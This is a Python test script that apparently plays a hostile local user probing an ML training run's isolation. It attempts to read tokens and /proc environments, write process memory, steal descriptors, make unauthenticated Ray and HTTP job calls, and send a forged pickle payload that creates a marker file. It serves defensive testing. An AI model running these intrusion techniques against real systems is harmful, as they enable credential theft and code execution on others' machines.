"""Another user of the machine, or of the network, who tries to get into a run that he sees listening.

``python stranger.py 'JSON'``, with ``private`` and ``run`` (folders), ``pids``, ``ports`` (a process's name and its
port each), ``host``, ``open`` (names that ask nobody anything: docs/security.md), ``mark`` (a file that nothing may
make).
Prints, as JSON, ``breaches`` (what worked) and ``refused`` (whose port said no). A script of its own, since the other
user need not be able to read more of the repository than this.
"""

from __future__ import annotations

import ctypes
import glob
import json
import os
import pickle
import socket
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

PIDFD_GETFD = 438
CALLS = (
    "/ray.rpc.InternalKVGcsService/InternalKVPut",  # a forged job or actor begins with a key in the store
    "/ray.rpc.JobInfoGcsService/AddJob",
    "/ray.rpc.NodeManagerService/GetNodeStats",
    "/ray.rpc.CoreWorkerService/GetCoreWorkerStats",
)
REQUESTS = (
    ("/api/jobs/", {"entrypoint": "true"}),
    ("/v1/completions", {"model": "x", "prompt": "a"}),
    ("/invocations", {"model": "x", "prompt": "a"}),
    ("/tokenize", {"prompt": "a"}),
)
KNOCK_SECONDS = 2.0


class Forged:
    """A row, weight, reward or job that makes ``mark`` where it is unpickled."""

    def __init__(self, mark: str):
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.mark, "w")


def main() -> None:
    given = json.loads(sys.argv[1])
    away = given["host"] != "127.0.0.1"
    breaches = list(knock(given["host"], given["ports"])) if away else [*files(given), *processes(given["pids"])]
    refused: set[str] = set()
    if not away:
        asked = [(name, port) for name, port in given["ports"] if name not in given["open"]]
        breaches += [*remote_calls(asked, refused), *requests(asked, refused)]
        send_forged([port for _, port in asked], given["mark"])
        breaches += ["what was forged was unpickled"] * os.path.exists(given["mark"])
    print(json.dumps({"breaches": breaches, "refused": sorted(refused)}))


def files(given: dict[str, Any]) -> Iterator[str]:
    """What lies in the run's folders, and the folders themselves."""
    private, run = given["private"], given["run"]
    sockets = [f"{private}/fork.sock", *(f"{private}/tmp/port-{port}" for _, port in given["ports"])]
    acts: dict[str, Callable[[], object]] = {
        "rename the private folder": lambda: os.rename(private, f"{private}-mine"),
        "rename the run folder": lambda: os.rename(run, f"{run}-mine"),
        "replace the workers' python": lambda: os.rename(f"{private}/python", f"{private}/python-mine"),
        "make the weights' socket": lambda: os.mkfifo(f"{private}/tmp/rl-colocate-zmq-x.sock"),
        "list the private folder": lambda: os.listdir(private),
        "read the token": lambda: os.open(f"{private}/token", os.O_RDONLY),
        **{f"connect to {path}": lambda path=path: connect(path) for path in sockets},  # type: ignore[misc]
        **{
            f"open {path}": lambda path=path: os.open(path, os.O_RDONLY)  # type: ignore[misc]
            for path in glob.glob(f"/dev/shm/{os.path.basename(private)}-*")
        },
    }
    yield from worked(acts)


def processes(pids: list[int]) -> Iterator[str]:
    """What the kernel shows of the run's processes, and lends of their descriptors."""
    for pid in pids:
        acts: dict[str, Callable[[], object]] = {
            f"read /proc/{pid}/environ": partial(os.open, f"/proc/{pid}/environ", os.O_RDONLY),
            f"list /proc/{pid}/fd": partial(os.listdir, f"/proc/{pid}/fd"),
            f"write /proc/{pid}/mem": partial(os.open, f"/proc/{pid}/mem", os.O_WRONLY),
            f"take a descriptor of {pid}": partial(take_descriptor, pid),
        }
        yield from worked(acts)


def take_descriptor(pid: int) -> None:
    process = os.pidfd_open(pid)
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.syscall(PIDFD_GETFD, process, 1, 0) < 0:
            raise OSError(ctypes.get_errno(), "pidfd_getfd")
    finally:
        os.close(process)


def connect(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)


def worked(acts: dict[str, Callable[[], object]]) -> Iterator[str]:
    for name, act in acts.items():
        try:
            act()
        except OSError:
            continue
        yield name


def knock(host: str, ports: list[tuple[str, int]]) -> Iterator[str]:
    for name, port in ports:
        for address in (host, "127.0.0.1"):
            try:
                socket.create_connection((address, port), KNOCK_SECONDS).close()
            except OSError:
                continue
            yield f"{name} is reached at {address}:{port}"


def remote_calls(ports: list[tuple[str, int]], refused: set[str]) -> Iterator[str]:
    """Ray's calls without its token."""
    import grpc

    for name, port in ports:
        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
            for call in CALLS:
                try:
                    channel.unary_unary(call)(b"", timeout=KNOCK_SECONDS)
                except grpc.RpcError as error:
                    code = error.code()  # type: ignore[attr-defined]
                    if code is grpc.StatusCode.UNAUTHENTICATED:
                        refused.add(name)
                    elif code in (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED):
                        break  # it doesn't speak gRPC
                    elif code is not grpc.StatusCode.UNIMPLEMENTED:
                        yield f"{name} took {call}: {code.name}"
                else:
                    yield f"{name} did {call}"


def requests(ports: list[tuple[str, int]], refused: set[str]) -> Iterator[str]:
    """A job, and a completion at somebody else's cost."""
    for name, port in ports:
        for path, body in REQUESTS:
            request = urllib.request.Request(
                f"http://127.0.0.1:{port}{path}", json.dumps(body).encode(), {"Content-Type": "application/json"}
            )
            try:
                with urllib.request.urlopen(request, timeout=KNOCK_SECONDS) as answer:
                    yield f"{name} did {path}: {answer.status}"
            except urllib.error.HTTPError as error:
                if error.code in (401, 403):
                    refused.add(name)
            except (OSError, ValueError):
                continue
            except Exception as error:  # no HTTP: the answer's first line is something else
                if type(error).__module__ != "http.client":
                    raise


def send_forged(ports: list[int], mark: str) -> None:
    """As TransferQueue and the engines' weights would get it, to whoever listens."""
    import zmq

    payload = pickle.dumps(Forged(mark))
    with zmq.Context() as context:
        context.linger = 0
        senders = []
        for port in ports:
            senders.append(sender := context.socket(zmq.DEALER))
            sender.connect(f"tcp://127.0.0.1:{port}")
            sender.send_multipart([payload, payload], zmq.NOBLOCK)
        for port in ports:
            try:
                with socket.create_connection(("127.0.0.1", port), KNOCK_SECONDS) as raw:
                    raw.sendall(payload)
            except OSError:
                continue
        time.sleep(KNOCK_SECONDS)
        for sender in senders:
            sender.close()


if __name__ == "__main__":
    main()
